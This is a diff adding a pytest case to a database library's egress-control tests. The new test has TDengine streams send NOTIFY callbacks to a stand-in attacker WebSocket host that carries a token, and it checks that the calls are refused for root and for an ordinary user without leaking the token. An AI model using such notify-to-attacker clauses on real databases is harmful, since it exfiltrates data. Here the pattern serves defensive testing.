@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import itertools
 import socket
 from collections.abc import Iterator
 from pathlib import Path
@@ -180,6 +181,27 @@ def test_the_default_is_open_while_root_is_alone(tmp_path: Path) -> None:
         for one in (endpoint, location):
             with pytest.raises(EgressDeniedError, match="does not allow"):
                 context.egress.check(one)
+
+
+def test_notifications_of_streams_go_where_the_setting_allows_also_those_of_root(tmp_path: Path) -> None:
+    with headrace.connect(tmp_path, dialect="tdengine") as root:
+        for statement in (
+            "CREATE DATABASE d",
+            "USE d",
+            "CREATE TABLE t (ts TIMESTAMP, a INT)",
+            "CREATE USER user1 PASS 'secret12'",
+        ):
+            root.execute(statement)
+        root.execute("GRANT ALL ON d.* TO user1")
+        query = "INTO {} AS SELECT _wstart, count(*) AS n FROM d.t INTERVAL(1m)"
+        notify = " NOTIFY('ws://attacker.example.net/x?token=t0') ON ('WINDOW_CLOSE')"
+        root.execute(f"CREATE STREAM d.s {query.format('d.o')}")
+        with headrace.connect(tmp_path, dialect="tdengine", user="user1", password="secret12") as user:
+            statements = [f"CREATE STREAM d.s2 {query.format('d.o2')}", f"CREATE OR REPLACE STREAM d.s {query.format('d.o')}"]
+            for connection, statement in itertools.product((root, user), statements):
+                with pytest.raises(EgressDeniedError, match=r"notify at ws://attacker.example.net/") as refused:
+                    connection.execute(statement + notify)
+                assert "t0" not in str(refused.value)
 
 
 def test_servers_beyond_loopback_end_the_default() -> None:
